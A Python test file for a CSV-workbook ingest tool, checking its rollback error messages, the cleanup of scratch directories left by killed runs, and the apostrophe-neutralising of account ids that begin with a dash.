def test_when_putting_back_fails_too_the_message_says_which_files_are_new_and_where_the_backup_is(setup, monkeypatch):
    ledger, wb = setup
    before = snapshot(wb)
    real = os.replace
    seen: list[str] = []

    def stuck(src, dst):
        name = Path(dst).name
        if name == "accounts.csv" or (name in seen and name == "scores.csv"):
            raise PermissionError(13, "Permission denied", str(dst))
        seen.append(name)
        return real(src, dst)

    monkeypatch.setattr(os, "replace", stuck)
    result = run_kam("ingest", ledger, wb)
    assert result.returncode == 2
    (backup,) = backups(wb)
    assert f"{wb / 'scores.csv'} could not be put back and hold the new version" in result.stderr
    assert f"the workbook as it was is in {backup}: copy it back" in result.stderr
    assert snapshot(backup) == before


def test_what_a_killed_ingest_left_beside_the_workbook_is_removed(setup):
    ledger, wb = setup
    ended = subprocess.Popen([sys.executable, "-c", "pass"])
    ended.wait()
    scratch = wb.parent / f".wb.ingest-{ended.pid}-x1y2"
    (scratch / "wb").mkdir(parents=True)
    (scratch / "wb" / "accounts.csv").write_text("a client's data", encoding="utf-8")
    alive = wb.parent / f".wb.ingest-{os.getpid()}-z3"  # a run still going: kept
    alive.mkdir()
    assert run_kam("ingest", ledger, wb).returncode == 0
    assert not scratch.exists() and alive.exists()


def test_an_id_written_neutralised_reads_back_as_the_ledger_gives_it(setup):
    """kam ingest writes a new customer "-C900" as "'-C900" in a CSV folder; read back it is "-C900" again, so a
    second ingest of the period replaces it instead of adding it twice."""
    ledger, wb = setup
    ledger.write_text(LEDGER.replace("C9,", "-C900,"), encoding="utf-8")
    assert run_kam("ingest", ledger, wb).returncode == 0
    assert "'-C900" in (wb / "accounts.csv").read_text(encoding="utf-8")
    second = run_kam("ingest", ledger, wb)
    assert second.returncode == 0, second.stderr
    assert list(kamlib.load(wb).accounts["account_id"]).count("-C900") == 1
